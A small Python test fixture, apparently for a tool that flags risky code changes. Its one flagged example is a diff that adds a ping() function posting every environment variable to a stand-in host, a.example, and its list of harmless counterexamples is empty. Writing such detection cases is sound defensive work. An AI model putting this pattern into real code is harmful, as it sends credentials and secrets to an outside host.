"""Changes that have an effect of this family, and honest ones beside them."""

from __future__ import annotations

from guard.facts.effects.family import Shown

TRIPS: tuple[Shown, ...] = (
    (
        "the environment goes to a host",
        {"shop/ping.py": "import os\nimport requests\n"},
        {
            "shop/ping.py": "import os\nimport requests\n\n\ndef ping():\n"
            "    requests.post('https://a.example/p', json=dict(os.environ))\n"
        },
    ),
)
QUIET: tuple[Shown, ...] = ()
